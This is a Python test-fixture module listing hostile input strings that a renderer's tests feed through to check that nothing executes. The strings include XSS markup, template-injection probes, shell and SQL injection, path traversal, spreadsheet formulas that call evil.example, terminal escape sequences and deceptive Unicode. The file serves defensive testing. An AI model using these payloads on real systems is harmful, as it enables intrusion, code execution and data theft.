"""Texts that want to be more than texts, for whatever shows what was recorded.

Each that could run something as a page's script would call `owned`; each that could ask somebody
else would ask ``evil.example``. `TEXTS` has all of them, `is_hidden` says what no output of ours
may hold, and `sample` is a part of them of every kind, for tests that take long for each.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Sequence

_JS = "window.owned=1"

MARKUP = [
    f"<script>{_JS}</script>", f"</script><script>{_JS}</script>", f"<ScRiPt>{_JS}</sCrIpT>",
    f"<script\n>{_JS}</script\n>", f"<script/x>{_JS}</script>",
    f"<script type=module>{_JS}</script>", "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>", f"<<script>{_JS};//<</script>",
    f"<img src=x onerror={_JS}>", f"<img src=x onerror={_JS}//", f"<img/src/onerror={_JS}>",
    f"<img src=`x`onerror={_JS}>", f"<img\tsrc=x\tonerror={_JS}>", f"<image src=x onerror={_JS}>",
    f'"><img src=x onerror="{_JS}">', f"'><img src=x onerror='{_JS}'>",
    f"--><img src=x onerror={_JS}>", f"]]><img src=x onerror={_JS}>", f"<svg onload={_JS}>",
    f"<svg/onload={_JS}>", f"<svg><script>{_JS}</script></svg>",
    f"<svg><script href='data:,{_JS}'/></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_JS}>'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>",
    f"</svg><script>{_JS}</script>", f"</text></svg><script>{_JS}</script>",
    f"</title><script>{_JS}</script>", f"</textarea><script>{_JS}</script>",
    f"</pre><script>{_JS}</script>", f"</code></pre><script>{_JS}</script>",
    f"</style><script>{_JS}</script>", f"</td></tr></table><script>{_JS}</script>",
    f"</option></select><img src=x onerror={_JS}>", f"</template><script>{_JS}</script>",
    f"</noscript><script>{_JS}</script>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_JS}'></iframe>", f"<a href='javascript:{_JS}'>a link</a>",
    f"<a href='java\tscript:{_JS}'>a link</a>", f"<a href=' javascript:{_JS}'>a link</a>",
    f"<a href='JaVaScRiPt:{_JS}' autofocus onfocus={_JS}>a link</a>", f"<body onload={_JS}>",
    f"<body onpageshow={_JS}>", f"<details open ontoggle={_JS}>",
    f"<input autofocus onfocus={_JS}>", f"<select autofocus onfocus={_JS}>",
    f"<textarea autofocus onfocus={_JS}>", f"<video><source onerror={_JS}></video>",
    f"<audio src=x onerror={_JS}></audio>", f"<marquee onstart={_JS}>",
    f"<style onload={_JS}></style>", f"<math><mtext><script>{_JS}</script></mtext></math>",
    f"<math><a xlink:href='javascript:{_JS}'>x</a></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    f"<template><script>{_JS}</script></template>",
    f"<object data='data:text/html,<script>parent.{_JS}</script>'></object>",
    f"<embed src='javascript:{_JS}'>",
    f"<form><button formaction='javascript:{_JS}'>send</button></form>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta charset=utf-7>+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=prefetch href='http://evil.example/x'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<form action='http://evil.example/'><button>send</button></form>",
    "<img src=http://evil.example/x.png>", "<p style='background:url(http://evil.example/x)'>",
    "<div id=main name=main>", "<form id=pick><input name=children>", "<a id=where>",
    "<!-- a comment that is never closed", "<!--><script>window.owned=1</script>",
    "<![CDATA[ kept ]]>", "<?php echo 1 ?>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&lt;script&gt;",
    "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;", "&nosuch;",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.owned=1\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e", f'" onmouseover="{_JS}" x="',
    f"' onmouseover='{_JS}' x='", f"` onmouseover=`{_JS}", f'" autofocus onfocus="{_JS}',
    f"x onfocus={_JS} autofocus tabindex=1", f"javascript:{_JS}", f"JAVASCRIPT:{_JS}",
    f"java\nscript:{_JS}", f"vbscript:{_JS}", f"data:text/html,<script>{_JS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==", "//evil.example/x.js",
    "/\\evil.example/x", "\\\\evil.example\\share", "http://evil.example/?a=b&c=d#e",
    "https://user:password@evil.example/", "mailto:x@evil.example?bcc=y", "file:///etc/passwd",
]  # fmt: skip
SCRIPTS = [
    f"';{_JS};//", f'";{_JS};//', f"\\';{_JS};//", f"`;{_JS};`", f"${{{_JS}}}", f"</script>{_JS}",
    f"*/{_JS}/*", f"\u2028{_JS}", f"-{_JS}-", f"'-{_JS}-'", "__proto__", "constructor", "prototype",
    "toString", "hasOwnProperty", "length", "children", "innerHTML", "document.cookie", "eval",
    "undefined", "[object Object]", '{"__proto__": {"owned": 1}}', '{"a": [1, 2', '"}]}', "\\",
    "\\\\", "\\n", "\\u0000",
]  # fmt: skip
TEMPLATES = [
    "{{ 7 * 7 }}", "{{7*'7'}}", "{% for x in () %}{% endfor %}", "{% raw %}", "{% include 'x' %}",
    "{{ ''.__class__.__mro__ }}", "{{ self._TemplateReference__context }}", "{{ config }}",
    "{{ cycler.__init__.__globals__.os }}", "{# a comment #}", "{{ '</script>' | safe }}", "${7*7}",
    "#{7*7}", "<%= 7 * 7 %>", "[[ 7 * 7 ]]", "{{constructor.constructor('x')()}}",
    "%(name)s %s %d {0} {name}", "{0.__class__}", "{name!r:>{width}}", "%n%x%p", "{", "}", "{}",
    "[bold red]rich[/bold red]", "[link=http://evil.example]x[/link]", "[/]", "[bold", ":smile:",
    "`http://evil.example`_ |x| *a* **b**", ".. raw:: html", "@{x}", "#set($x=1)",
]  # fmt: skip
COMMANDS = [
    "$(id) `id` ; rm -rf x | y && z", "; touch owned", "| touch owned", "`touch owned`",
    "$(touch owned)", "&& touch owned", "\n touch owned", "%PATH%", "!!", "--help", "-rf", "-",
    "'; DROP TABLE runs; --", "' OR '1'='1", '" OR ""="', "1; ATTACH 'x' AS y", "x' UNION SELECT 1",
    "%' OR 1=1 --", "a_b%c", "*", "?", "[a-z]*", "$HOME", "~", "#", "\x00", "a\x00b",
    "metrics.a > 1", "params.`a` = 'b'", "`", "``", "a`b", "' and '", ") or (", "null", "--",
    "__import__('os').system('touch owned')", "cos\nsystem\n(S'touch owned'\ntR.",
    "!!python/none x",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..", "../", "./..", "..\\..\\windows", "/etc/passwd", "//etc/passwd",
    "C:\\con", "c:/windows/system32", "\\\\?\\C:\\", "con", "nul", "aux.txt", "com1", "LPT1.csv",
    "~/.ssh/id", "~root", "a//b/./../c", "a/", "/a", "%2e%2e%2fetc%2fpasswd", "..%2f..%2f",
    "..%c0%af", "....//....//", "..;/", "a/b/../../../c", ".hidden", "..hidden", "a.", "a ", " a",
    "a:b", "a::$DATA", "a?b=c#d", "a%00.png", "file.csv\x00.png", "/dev/zero", "/proc/self/environ",
    "x/" * 200, "autotrack.db", "../autotrack.db", "model/model.pkl", "manifest.json",
    "desktop.ini",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-1+1",
    "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", '"=1+1', ";=1+1", ",=1+1",
    "=IMPORTXML(\"x\")", "=WEBSERVICE(\"http://evil.example\")", "%0A=1+1", "\uff1d1+1", "'=1+1",
    'a,b"c,"d"', "a;b\tc\r\nd",
]  # fmt: skip
MARKDOWN = [
    "# a heading", "| a | b |", "|", "a | b \\| c", "```", "````\n```\n", "~~~",
    "[x](javascript:x)", "![x](http://evil.example/x.png)", "[x]: http://evil.example",
    "<http://evil.example>", "- [ ] x", "> quoted", "***", "---", "===", "1. one", "    indented",
    "$x_1$", "\\(x\\)", "$$\n\\input{x}\n$$", "@somebody", "#1", "fixes #1", "a\n\n# b",
    "<details><summary>x</summary>", "\\begin{x}", "^[x]",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x9b31m", "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K", "\x1b[?25l", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1bc", "\x1b(0", "\x1b#8",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;b3duZWQ=\x07", "\x1b_G\x1b\\",
    "\x1bP+q544e\x1b\\", "\x1b[200~pasted\x1b[201~", "\x9d0;owned\x9c", "\x90q\x9c", "\x85", "\x1b",
    "\x07 bell \x08 back \x7f delete", "over\rwritten", "up\x0bdown\x0c", "\x0e\x0f", "\x1a",
    "\x04", "tab\tand\nline\r\nend", "\n\n\n\n", "a\x1b[", "\x1b[999999999C", "\x1b[38;5;1mx",
]  # fmt: skip
SIGNS = [
    "\u202eright to left", "\u202dleft\u202c", "\u202bembedded",
    "\u2066isolate\u2069 and \u200f mark", "\u2067x", "\u2068y", "\u061c", "abc\u202efdp.exe",
    "# \u202e ; x \u2066# y\u2069 \u2066", "zero\u200bwidth\u200c\u200d\ufeff", "\u2060",
    "\u00ad soft", "\u034f", "\u115f\u1160", "\u17b4", "\u2028sep\u2029par", "\u2800", "\u3164",
    "\uffa0", "\u180e", "\ufe0f", "\U000e0041\U000e007f", "\U000e0100", "\ufff9a\ufffab\ufffb",
    "\U0001d173", "e\u0301\u0323 " + "z" + "\u0335" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family \U0001f3f3", "\U0001f1e6\U0001f1e8",
    "\u4e2d\u6587 \u0627\u0644\u0639 \u05e2\u05d1", "\ufdfd", "\u0e01\u0e49\u0e49\u0e49",
    "\u0130I\u0131", "\u212b \ufb03 \u00df \u1e9e", "p\u0430ypal", "\ufffd \uffff \U0010ffff",
    "\ue000", "\U000f0000", " ", "  ", "\u00a0", "\u3000", "\u2003", ".", "..." * 30, "\u2026",
    "<wbr>",
]  # fmt: skip
SURROGATES = [
    "\ud800",
    "a\udc80b",
    "\udfff",
    "\ud83d",
    "\udcff\udcfe",
    "\ude00\ud83d",
    "x" * 9 + "\ud800",
]
NUMBERS = [
    "NULL", "None", "nan", "NaN", "inf", "-inf", "true", "False", "-0", "0", "1e999", "-1e-999",
    "0x1F", "1_000", "1,000", "01", "1e3", "9" * 40, "0.1" + "0" * 60 + "1", "\u0661\u0662",
    "\u00b2", "2026-11-28",
]  # fmt: skip
HUGE = [
    "x" * 5000, "no blank" * 400, "word " * 1000, "\n" * 300, "_" * 300, "__" * 300, "(" * 500,
    "<b>" * 700, "&" * 1000, "\\" * 999, "\u4e2d" * 3000, "\u202e" * 500, "\x1b[31m" * 200,
    "[" * 400 + "]" * 400, "a.b." * 300, "{" * 600, "'" * 501, '"' * 501, "\t" * 400,
]  # fmt: skip

#: All of them, each once.
TEXTS: Sequence[str] = tuple(
    dict.fromkeys(
        [
            *MARKUP,
            *SCRIPTS,
            *TEMPLATES,
            *COMMANDS,
            *PATHS,
            *FORMULAS,
            *MARKDOWN,
            *TERMINAL,
            *SIGNS,
            *SURROGATES,
            *NUMBERS,
            *HUGE,
        ]
    )
)


def sample(every: int, first: int = 0) -> Sequence[str]:
    """Each so manyth of the texts, from one of them on: some of every kind."""
    return TEXTS[first % every :: every]


def is_hidden(letter: str) -> bool:
    """Whether a letter moves the cursor, turns round what stands beside it, or is not seen."""
    return letter == "\u3164" or unicodedata.category(letter) in (
        "Cc",
        "Cf",
        "Co",
        "Cn",
        "Cs",
        "Zl",
        "Zp",
    )


def hidden_in(text: str, allowed: str = "\n\t") -> set[str]:
    """The letters of a text that are not to be seen, those that are allowed aside."""
    return {letter for letter in text if letter not in allowed and is_hidden(letter)}
